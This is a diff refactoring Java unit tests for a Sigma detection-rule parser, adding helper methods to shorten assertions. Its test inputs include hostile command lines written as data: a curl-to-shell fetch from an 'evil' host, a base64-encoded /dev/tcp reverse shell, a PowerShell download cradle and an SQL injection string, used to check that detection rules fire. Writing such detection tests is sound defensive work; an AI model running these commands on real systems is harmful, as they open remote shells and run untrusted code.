@@ -42,6 +42,13 @@ class SigmaParserTest {
         return SigmaParser.parseAll("s.yml", yaml, mapping, new ArrayList<>()).errors();
     }
 
+    /** The message of the one error the file has: fails if it has none, or more than one. */
+    private static String onlyError(String yaml) {
+        List<RuleError> errors = errors(yaml);
+        assertThat(errors).hasSize(1);
+        return errors.get(0).message();
+    }
+
     /** A process_creation rule on linux with the given detection lines (indented two spaces). */
     private static Rule process(String detection) {
         return compile("title: T\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
@@ -51,6 +58,16 @@ class SigmaParserTest {
 
     private static LogEvent commandLine(String line) {
         return Fixtures.event(0, "h", Map.of("process.command_line", line, "user.name", "bob"));
+    }
+
+    /** Whether the rule fires on a process started with this command line (by bob, on host h). */
+    private static boolean matches(Rule rule, String commandLine) {
+        return rule.condition().test(commandLine(commandLine));
+    }
+
+    /** Whether the rule fires on an event with these fields (on host h). */
+    private static boolean matches(Rule rule, Map<String, Object> fields) {
+        return rule.condition().test(Fixtures.event(0, "h", fields));
     }
 
     private static LogEvent message(String text, Map<String, Object> fields) {
@@ -115,18 +132,11 @@ class SigmaParserTest {
         void mapsAreAndListsAreOrNullIsAbsent() {
             Rule rule = process(
                     "  s:\n    CommandLine|contains: [curl, wget]\n    User: [root, admin]\n  no_pid:\n    ProcessId: null\n  condition: s and no_pid\n");
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0, "h", Map.of("process.command_line", "wget x", "user.name", "admin"))))
+            assertThat(matches(rule, Map.of("process.command_line", "wget x", "user.name", "admin")))
                     .isTrue();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(0, "h", Map.of("process.command_line", "wget x", "user.name", "bob"))))
+            assertThat(matches(rule, Map.of("process.command_line", "wget x", "user.name", "bob")))
                     .isFalse();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0,
-                                    "h",
-                                    Map.of("process.command_line", "wget x", "user.name", "root", "process.pid", 4L))))
+            assertThat(matches(rule, Map.of("process.command_line", "wget x", "user.name", "root", "process.pid", 4L)))
                     .as("null means absent, and this event has a ProcessId")
                     .isFalse();
         }
@@ -135,21 +145,19 @@ class SigmaParserTest {
         void aListOfMapsIsAnyOfThem() {
             Rule rule = process(
                     "  s:\n    - {Image|endswith: /curl}\n    - {CommandLine|startswith: 'python -c'}\n  condition: s\n");
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("process.executable", "/usr/bin/curl"))))
+            assertThat(matches(rule, Map.of("process.executable", "/usr/bin/curl")))
                     .isTrue();
-            assertThat(rule.condition().test(commandLine("python -c 'print(1)'")))
-                    .isTrue();
-            assertThat(rule.condition().test(commandLine("python x.py"))).isFalse();
+            assertThat(matches(rule, "python -c 'print(1)'")).isTrue();
+            assertThat(matches(rule, "python x.py")).isFalse();
         }
 
         @Test
         void wildcardsStayWildcardsInsideContainsAndCanBeEscaped() {
             Rule rule = process(
                     "  s: {CommandLine|contains: 'curl *| sh'}\n  e: {CommandLine|endswith: 'x\\*'}\n  condition: s or e\n");
-            assertThat(rule.condition().test(commandLine("sudo curl http://evil | sh -s")))
-                    .isTrue();
-            assertThat(rule.condition().test(commandLine("ls x*"))).isTrue();
-            assertThat(rule.condition().test(commandLine("ls xy"))).isFalse();
+            assertThat(matches(rule, "sudo curl http://evil | sh -s")).isTrue();
+            assertThat(matches(rule, "ls x*")).isTrue();
+            assertThat(matches(rule, "ls xy")).isFalse();
         }
 
         @Test
@@ -157,8 +165,8 @@ class SigmaParserTest {
             Rule rule = process(
                     "  sel_a: {CommandLine|contains: a1}\n  sel_b: {CommandLine|contains: b2}\n  filter: {User: root}\n"
                             + "  condition: all of sel_* and not (filter)\n");
-            assertThat(rule.condition().test(commandLine("a1 b2"))).isTrue();
-            assertThat(rule.condition().test(commandLine("a1"))).isFalse();
+            assertThat(matches(rule, "a1 b2")).isTrue();
+            assertThat(matches(rule, "a1")).isFalse();
         }
     }
 
@@ -248,24 +256,20 @@ class SigmaParserTest {
         @Test
         void windashMayFollowTheComparisonAsSigmaHqWritesIt() {
             Rule rule = process("  s: {CommandLine|contains|windash: ' -r '}\n  condition: s\n");
-            assertThat(rule.condition().test(commandLine("getcap /r /usr"))).isTrue();
-            assertThat(rule.condition().test(commandLine("getcap -r /usr"))).isTrue();
-            assertThat(rule.condition().test(commandLine("getcap /usr"))).isFalse();
+            assertThat(matches(rule, "getcap /r /usr")).isTrue();
+            assertThat(matches(rule, "getcap -r /usr")).isTrue();
+            assertThat(matches(rule, "getcap /usr")).isFalse();
         }
 
         @Test
         void imageIsTheProgramsPathSoDirectoryTestsWork() {
             Rule tmp = process("  s: {Image|startswith: '/tmp/'}\n  condition: s\n");
-            assertThat(tmp.condition()
-                            .test(Fixtures.event(0, "h", Map.of("process.executable", "/tmp/x", "process.name", "x"))))
+            assertThat(matches(tmp, Map.of("process.executable", "/tmp/x", "process.name", "x")))
                     .isTrue();
-            assertThat(tmp.condition()
-                            .test(Fixtures.event(
-                                    0, "h", Map.of("process.executable", "/usr/bin/x", "process.name", "x"))))
+            assertThat(matches(tmp, Map.of("process.executable", "/usr/bin/x", "process.name", "x")))
                     .isFalse();
             Rule python = process("  s: {Image|contains: '/python'}\n  condition: s\n");
-            assertThat(python.condition()
-                            .test(Fixtures.event(0, "h", Map.of("process.executable", "/usr/bin/python3"))))
+            assertThat(matches(python, Map.of("process.executable", "/usr/bin/python3")))
                     .isTrue();
         }
 
@@ -290,21 +294,15 @@ class SigmaParserTest {
             };
             Rule rule = process.apply(
                     "  s: {Image|endswith: ['/curl', 'wget'], CommandLine|contains: x}\n  condition: s\n");
-            assertThat(rule.condition()
-                            .test(Fixtures.event(0, "h", Map.of("process.name", "curl", "process.command_line", "x"))))
+            assertThat(matches(rule, Map.of("process.name", "curl", "process.command_line", "x")))
                     .isTrue();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0, "h", Map.of("process.name", "libcurl", "process.command_line", "x"))))
+            assertThat(matches(rule, Map.of("process.name", "libcurl", "process.command_line", "x")))
                     .as("'/curl' ends the path, so it is the whole name")
                     .isFalse();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0, "h", Map.of("process.name", "mywget", "process.command_line", "x"))))
+            assertThat(matches(rule, Map.of("process.name", "mywget", "process.command_line", "x")))
                     .isTrue();
             Rule exact = process.apply("  s: {Image: '/usr/bin/dd'}\n  condition: s\n");
-            assertThat(exact.condition().test(Fixtures.event(0, "h", Map.of("process.name", "dd"))))
-                    .isTrue();
+            assertThat(matches(exact, Map.of("process.name", "dd"))).isTrue();
             assertThat(SigmaParser.parseAll(
                                     "s.yml",
                                     "title: T\nid: t\nlogsource: {product: linux, category: process_creation}\ndetection:\n"
@@ -321,10 +319,8 @@ class SigmaParserTest {
         @Test
         void base64MatchesTheEncodedValueCaseSensitively() {
             Rule rule = process("  s: {CommandLine|base64|contains: 'bash -i'}\n  condition: s\n");
-            assertThat(rule.condition().test(commandLine("echo " + b64("bash -i") + " | base64 -d")))
-                    .isTrue();
-            assertThat(rule.condition()
-                            .test(commandLine("echo " + b64("bash -i").toLowerCase() + " | base64 -d")))
+            assertThat(matches(rule, "echo " + b64("bash -i") + " | base64 -d")).isTrue();
+            assertThat(matches(rule, "echo " + b64("bash -i").toLowerCase() + " | base64 -d"))
                     .isFalse();
         }
 
@@ -332,12 +328,11 @@ class SigmaParserTest {
         void base64offsetFindsTheValueAtEveryOffset() {
             Rule rule = process("  s: {CommandLine|base64offset|contains: '/dev/tcp/'}\n  condition: s\n");
             for (String prefix : List.of("", "a", "ab", "abc", "abcd")) {
-                assertThat(rule.condition()
-                                .test(commandLine("x " + b64(prefix + "bash -i >& /dev/tcp/1.2.3.4/1 0>&1"))))
+                assertThat(matches(rule, "x " + b64(prefix + "bash -i >& /dev/tcp/1.2.3.4/1 0>&1")))
                         .as("offset %d", prefix.length())
                         .isTrue();
             }
-            assertThat(rule.condition().test(commandLine("x " + b64("bash -i >& /dev/udp/1.2.3.4/1"))))
+            assertThat(matches(rule, "x " + b64("bash -i >& /dev/udp/1.2.3.4/1")))
                     .isFalse();
         }
 
@@ -346,34 +341,29 @@ class SigmaParserTest {
             Rule rule = process("  s: {CommandLine|wide|base64offset|contains: 'IEX'}\n  condition: s\n");
             String encoded = Base64.getEncoder()
                     .encodeToString("$x; IEX (New-Object Net.WebClient)".getBytes(StandardCharsets.UTF_16LE));
-            assertThat(rule.condition().test(commandLine("pwsh -enc " + encoded)))
-                    .isTrue();
-            assertThat(rule.condition().test(commandLine("pwsh -enc " + b64("$x; IEX (New-Object Net.WebClient)"))))
+            assertThat(matches(rule, "pwsh -enc " + encoded)).isTrue();
+            assertThat(matches(rule, "pwsh -enc " + b64("$x; IEX (New-Object Net.WebClient)")))
                     .isFalse();
         }
 
         @Test
         void utf16VariantsEncodeTheValue() {
             String value = "ab";
-            assertThat(process("  s: {CommandLine|utf16le|contains: ab}\n  condition: s\n")
-                            .condition()
-                            .test(commandLine(new String(
-                                    value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1))))
+            assertThat(matches(
+                            process("  s: {CommandLine|utf16le|contains: ab}\n  condition: s\n"),
+                            new String(value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1)))
                     .isTrue();
-            assertThat(process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n")
-                            .condition()
-                            .test(commandLine(new String(
-                                    value.getBytes(StandardCharsets.UTF_16BE), StandardCharsets.ISO_8859_1))))
+            assertThat(matches(
+                            process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n"),
+                            new String(value.getBytes(StandardCharsets.UTF_16BE), StandardCharsets.ISO_8859_1)))
                     .isTrue();
-            assertThat(process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n")
-                            .condition()
-                            .test(commandLine(new String(
-                                    value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1))))
+            assertThat(matches(
+                            process("  s: {CommandLine|utf16be|contains: ab}\n  condition: s\n"),
+                            new String(value.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1)))
                     .isFalse();
-            assertThat(process("  s: {CommandLine|utf16|base64|contains: ab}\n  condition: s\n")
-                            .condition()
-                            .test(commandLine(Base64.getEncoder()
-                                    .encodeToString(new byte[] {(byte) 0xFF, (byte) 0xFE, 'a', 0, 'b', 0}))))
+            assertThat(matches(
+                            process("  s: {CommandLine|utf16|base64|contains: ab}\n  condition: s\n"),
+                            Base64.getEncoder().encodeToString(new byte[] {(byte) 0xFF, (byte) 0xFE, 'a', 0, 'b', 0})))
                     .isTrue();
         }
 
@@ -381,20 +371,18 @@ class SigmaParserTest {
         void windashAcceptsEveryDashForAnOption() {
             Rule rule = process("  s: {CommandLine|windash|contains: ' -f '}\n  condition: s\n");
             for (String dash : List.of("-", "/", "\u2013", "\u2014", "\u2015")) {
-                assertThat(rule.condition().test(commandLine("tool " + dash + "f x")))
-                        .as(dash)
-                        .isTrue();
+                assertThat(matches(rule, "tool " + dash + "f x")).as(dash).isTrue();
             }
-            assertThat(rule.condition().test(commandLine("tool +f x"))).isFalse();
+            assertThat(matches(rule, "tool +f x")).isFalse();
         }
 
         @Test
         void casedComparesCaseSensitively() {
             Rule rule = process("  s: {CommandLine|cased|contains: 'AutoRun'}\n  condition: s\n");
-            assertThat(rule.condition().test(commandLine("reg add AutoRun"))).isTrue();
-            assertThat(rule.condition().test(commandLine("reg add autorun"))).isFalse();
+            assertThat(matches(rule, "reg add AutoRun")).isTrue();
+            assertThat(matches(rule, "reg add autorun")).isFalse();
             Rule plain = process("  s: {CommandLine|contains: 'AutoRun'}\n  condition: s\n");
-            assertThat(plain.condition().test(commandLine("reg add autorun"))).isTrue();
+            assertThat(matches(plain, "reg add autorun")).isTrue();
         }
 
         @Test
@@ -402,41 +390,26 @@ class SigmaParserTest {
             Rule rule = compile(
                             "title: T\nlogsource: {product: linux}\ndetection:\n  s: {User|fieldref: TargetUser}\n  condition: s\n")
                     .get(0);
-            assertThat(rule.condition()
-                            .test(Fixtures.event(0, "h", Map.of("user.name", "root", "user.target.name", "ROOT"))))
+            assertThat(matches(rule, Map.of("user.name", "root", "user.target.name", "ROOT")))
                     .isTrue();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(0, "h", Map.of("user.name", "bob", "user.target.name", "root"))))
+            assertThat(matches(rule, Map.of("user.name", "bob", "user.target.name", "root")))
                     .isFalse();
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("user.name", "bob"))))
-                    .isFalse();
+            assertThat(matches(rule, Map.of("user.name", "bob"))).isFalse();
         }
 
         @Test
         void regexFlags() {
-            assertThat(process("  s: {CommandLine|re: 'CURL'}\n  condition: s\n")
-                            .condition()
-                            .test(commandLine("curl x")))
+            assertThat(matches(process("  s: {CommandLine|re: 'CURL'}\n  condition: s\n"), "curl x"))
                     .isFalse();
-            assertThat(process("  s: {CommandLine|re|i: 'CURL'}\n  condition: s\n")
-                            .condition()
-                            .test(commandLine("curl x")))
+            assertThat(matches(process("  s: {CommandLine|re|i: 'CURL'}\n  condition: s\n"), "curl x"))
                     .isTrue();
-            assertThat(process("  s: {CommandLine|re: '^b$'}\n  condition: s\n")
-                            .condition()
-                            .test(commandLine("a\nb\nc")))
+            assertThat(matches(process("  s: {CommandLine|re: '^b$'}\n  condition: s\n"), "a\nb\nc"))
                     .isFalse();
-            assertThat(process("  s: {CommandLine|re|m: '^b$'}\n  condition: s\n")
-                            .condition()
-                            .test(commandLine("a\nb\nc")))
+            assertThat(matches(process("  s: {CommandLine|re|m: '^b$'}\n  condition: s\n"), "a\nb\nc"))
                     .isTrue();
-            assertThat(process("  s: {CommandLine|re: 'a.b'}\n  condition: s\n")
-                            .condition()
-                            .test(commandLine("a\nb")))
+            assertThat(matches(process("  s: {CommandLine|re: 'a.b'}\n  condition: s\n"), "a\nb"))
                     .isFalse();
-            assertThat(process("  s: {CommandLine|re|s: 'a.b'}\n  condition: s\n")
-                            .condition()
-                            .test(commandLine("a\nb")))
+            assertThat(matches(process("  s: {CommandLine|re|s: 'a.b'}\n  condition: s\n"), "a\nb"))
                     .isTrue();
         }
 
@@ -445,7 +418,7 @@ class SigmaParserTest {
             Rule rule = compile("title: T\nlogsource: {category: webserver}\ndetection:\n"
                             + "  s: {cs-uri-query|contains: 'union select'}\n  condition: s\n")
                     .get(0);
-            assertThat(rule.condition().test(Fixtures.event(0, "h", Map.of("url.query", "id=1 union select 2"))))
+            assertThat(matches(rule, Map.of("url.query", "id=1 union select 2")))
                     .isTrue();
             assertThat(rule.condition().test(message("GET /?id=1 union select 2 HTTP/1.1", Map.of())))
                     .as("raw line")
@@ -457,17 +430,15 @@ class SigmaParserTest {
                             "title: T\nlogsource: {category: webserver}\ndetection:\n"
                                     + "  s: {cs-method: POST, sc-status: 200, cs-uri-stem|endswith: '/wsman'}\n  condition: s\n")
                     .get(0);
-            assertThat(exact.condition()
-                            .test(Fixtures.event(
-                                    0,
-                                    "h",
-                                    Map.of(
-                                            "http.request.method",
-                                            "POST",
-                                            "http.response.status_code",
-                                            200L,
-                                            "url.path",
-                                            "/x/wsman"))))
+            assertThat(matches(
+                            exact,
+                            Map.of(
+                                    "http.request.method",
+                                    "POST",
+                                    "http.response.status_code",
+                                    200L,
+                                    "url.path",
+                                    "/x/wsman")))
                     .isTrue();
             assertThat(exact.condition()
                             .test(message(
@@ -483,39 +454,29 @@ class SigmaParserTest {
                             + "  s: {type: EXECVE, a0: chmod, a1: '777'}\n  sys: {type: SYSCALL, exe|endswith: '/useradd', syscall: 59}\n"
                             + "  condition: s or sys\n")
                     .get(0);
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0,
-                                    "h",
-                                    Map.of("auditd.type", "EXECVE", "auditd.args", List.of("chmod", "777", "/x")))))
+            assertThat(matches(rule, Map.of("auditd.type", "EXECVE", "auditd.args", List.of("chmod", "777", "/x"))))
                     .isTrue();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0, "h", Map.of("auditd.type", "EXECVE", "auditd.args", List.of("chmod", "644")))))
+            assertThat(matches(rule, Map.of("auditd.type", "EXECVE", "auditd.args", List.of("chmod", "644"))))
                     .isFalse();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0,
-                                    "h",
-                                    Map.of(
-                                            "auditd.type",
-                                            "SYSCALL",
-                                            "process.executable",
-                                            "/usr/sbin/useradd",
-                                            "auditd.syscall",
-                                            "59"))))
+            assertThat(matches(
+                            rule,
+                            Map.of(
+                                    "auditd.type",
+                                    "SYSCALL",
+                                    "process.executable",
+                                    "/usr/sbin/useradd",
+                                    "auditd.syscall",
+                                    "59")))
                     .isTrue();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0,
-                                    "h",
-                                    Map.of(
-                                            "auditd.type",
-                                            "SYSCALL",
-                                            "process.executable",
-                                            "/tmp/useradd2",
-                                            "auditd.syscall",
-                                            "59"))))
+            assertThat(matches(
+                            rule,
+                            Map.of(
+                                    "auditd.type",
+                                    "SYSCALL",
+                                    "process.executable",
+                                    "/tmp/useradd2",
+                                    "auditd.syscall",
+                                    "59")))
                     .isFalse();
         }
 
@@ -525,33 +486,13 @@ class SigmaParserTest {
                             "title: T\nlogsource: {category: network_connection}\ndetection:\n"
                                     + "  s: {DestinationPort|gte: 1024, DestinationIp|cidr: '203.0.113.0/24', User|exists: true}\n  condition: s\n")
                     .get(0);
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0,
-                                    "h",
-                                    Map.of(
-                                            "destination.port",
-                                            4444L,
-                                            "destination.ip",
-                                            "203.0.113.5",
-                                            "user.name",
-                                            "a"))))
+            assertThat(matches(
+                            rule, Map.of("destination.port", 4444L, "destination.ip", "203.0.113.5", "user.name", "a")))
                     .isTrue();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0,
-                                    "h",
-                                    Map.of(
-                                            "destination.port",
-                                            443L,
-                                            "destination.ip",
-                                            "203.0.113.5",
-                                            "user.name",
-                                            "a"))))
+            assertThat(matches(
+                            rule, Map.of("destination.port", 443L, "destination.ip", "203.0.113.5", "user.name", "a")))
                     .isFalse();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0, "h", Map.of("destination.port", 4444L, "destination.ip", "203.0.113.5"))))
+            assertThat(matches(rule, Map.of("destination.port", 4444L, "destination.ip", "203.0.113.5")))
                     .isFalse();
         }
     }
@@ -653,31 +594,11 @@ class SigmaParserTest {
         void impossibleOrConflictingConditionsAreReported() {
             String head = BASE
                     + "title: C\ncorrelation:\n  type: event_count\n  rules: [fail]\n  timespan: 5m\n  condition: ";
-            assertThat(errors(head + "{lt: 1}\n"))
-                    .extracting(RuleError::message)
-                    .singleElement()
-                    .asString()
-                    .contains("can never be met");
-            assertThat(errors(head + "{gt: 5, lt: 6}\n"))
-                    .extracting(RuleError::message)
-                    .singleElement()
-                    .asString()
-                    .contains("can never be met");
-            assertThat(errors(head + "{gt: 1, gte: 2}\n"))
-                    .extracting(RuleError::message)
-                    .singleElement()
-                    .asString()
-                    .contains("conflicts with 'gt'");
-            assertThat(errors(head + "{eq: 2, lte: 3}\n"))
-                    .extracting(RuleError::message)
-                    .singleElement()
-                    .asString()
-                    .contains("conflicts with 'eq'");
-            assertThat(errors(head + "{field: User}\n"))
-                    .extracting(RuleError::message)
-                    .singleElement()
-                    .asString()
-                    .contains("needs gte, gt, eq, lt or lte");
+            assertThat(onlyError(head + "{lt: 1}\n")).contains("can never be met");
+            assertThat(onlyError(head + "{gt: 5, lt: 6}\n")).contains("can never be met");
+            assertThat(onlyError(head + "{gt: 1, gte: 2}\n")).contains("conflicts with 'gt'");
+            assertThat(onlyError(head + "{eq: 2, lte: 3}\n")).contains("conflicts with 'eq'");
+            assertThat(onlyError(head + "{field: User}\n")).contains("needs gte, gt, eq, lt or lte");
         }
 
         @Test
@@ -712,27 +633,24 @@ class SigmaParserTest {
         @Test
         void backslashEscapesWildcardsAndItself() {
             Rule star = process("  s: {CommandLine: 'a\\*'}\n  condition: s\n");
-            assertThat(star.condition().test(commandLine("a*"))).isTrue();
-            assertThat(star.condition().test(commandLine("ab"))).isFalse();
+            assertThat(matches(star, "a*")).isTrue();
+            assertThat(matches(star, "ab")).isFalse();
             Rule question = process("  s: {CommandLine|endswith: 'why\\?'}\n  condition: s\n");
-            assertThat(question.condition().test(commandLine("echo why?"))).isTrue();
-            assertThat(question.condition().test(commandLine("echo whyX"))).isFalse();
+            assertThat(matches(question, "echo why?")).isTrue();
+            assertThat(matches(question, "echo whyX")).isFalse();
             // \\* is a backslash, then a wildcard (a glob would read a backslash, then a literal '*')
             Rule backslashThenWildcard = process("  s: {CommandLine|startswith: 'C:\\\\*.exe'}\n  condition: s\n");
-            assertThat(backslashThenWildcard.condition().test(commandLine("C:\\tool.exe /x")))
-                    .isTrue();
-            assertThat(backslashThenWildcard.condition().test(commandLine("C:tool.exe /x")))
-                    .isFalse();
+            assertThat(matches(backslashThenWildcard, "C:\\tool.exe /x")).isTrue();
+            assertThat(matches(backslashThenWildcard, "C:tool.exe /x")).isFalse();
         }
 
         @Test
         void aBackslashBeforeAnythingElseIsItself() {
             Rule path = process("  s: {CommandLine|contains: 'C:\\Windows\\System32\\'}\n  condition: s\n");
-            assertThat(path.condition().test(commandLine("run C:\\Windows\\System32\\cmd.exe")))
-                    .isTrue();
+            assertThat(matches(path, "run C:\\Windows\\System32\\cmd.exe")).isTrue();
             Rule doubled = process("  s: {CommandLine: 'a\\\\b'}\n  condition: s\n");
-            assertThat(doubled.condition().test(commandLine("a\\b"))).isTrue();
-            assertThat(doubled.condition().test(commandLine("a\\\\b"))).isFalse();
+            assertThat(matches(doubled, "a\\b")).isTrue();
+            assertThat(matches(doubled, "a\\\\b")).isFalse();
         }
     }
 
@@ -760,20 +678,13 @@ class SigmaParserTest {
                             rules))
                     .isEmpty();
             Rule rule = rules.get(0);
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0, "h", Map.of("user.name", "admin", "process.command_line", "/dev/shm/x"))))
+            assertThat(matches(rule, Map.of("user.name", "admin", "process.command_line", "/dev/shm/x")))
                     .isTrue();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0, "h", Map.of("user.name", "root", "process.command_line", "/tmp/x"))))
+            assertThat(matches(rule, Map.of("user.name", "root", "process.command_line", "/tmp/x")))
                     .isTrue();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(0, "h", Map.of("user.name", "bob", "process.command_line", "/tmp/x"))))
+            assertThat(matches(rule, Map.of("user.name", "bob", "process.command_line", "/tmp/x")))
                     .isFalse();
-            assertThat(rule.condition()
-                            .test(Fixtures.event(
-                                    0, "h", Map.of("user.name", "root", "process.command_line", "/var/x"))))
+            assertThat(matches(rule, Map.of("user.name", "root", "process.command_line", "/var/x")))
                     .isFalse();
         }
 
